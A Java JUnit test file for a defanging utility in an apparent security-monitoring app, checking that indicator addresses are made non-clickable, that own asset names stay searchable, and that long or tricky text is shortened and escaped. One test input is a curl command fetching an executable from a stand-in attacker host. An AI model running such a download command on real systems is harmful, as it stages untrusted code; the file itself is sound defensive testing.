package io.watchfloor.web.narrative;

import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

class QuotesTests {

	@Test
	void addressesAreDefangedAndNamesOfFilesAreNot() {
		assertThat(Quotes.shown("curl.exe http://evil.example/a.exe -o b.dll && ping evil.example 203.0.113.7"))
			.isEqualTo("curl.exe hxxp://evil[.]example/a.exe -o b.dll && ping evil[.]example 203[.]0[.]113[.]7");
		assertThat(Quotes.shown("run.exe.evil.example")).isEqualTo("run[.]exe[.]evil[.]example");
	}

	@Test
	void ownAssetsStayAsPeopleSearchForThem() {
		assertThat(Quotes.shownAsset("ws-1.contoso.com")).isEqualTo("ws-1.contoso.com");
		assertThat(Quotes.shownAsset("http://evil.example")).isEqualTo("hxxp://evil[.]example");
	}

	@Test
	void aQuoteIsShortHoweverLongItsText() {
		assertThat(Quotes.shown("é\u202E ".repeat(100_000))).hasSizeLessThanOrEqualTo(Quotes.LONGEST)
			.endsWith("…")
			.startsWith("é‹U+202E› é");
		assertThat(Quotes.shown("")).isEmpty();
	}

	@Test
	void nothingEndsAQuote() {
		assertThat(Quotes.withoutQuotationMarks("a” b“ „c\" «d»")).isEqualTo("a' b' 'c' 'd'");
	}

}
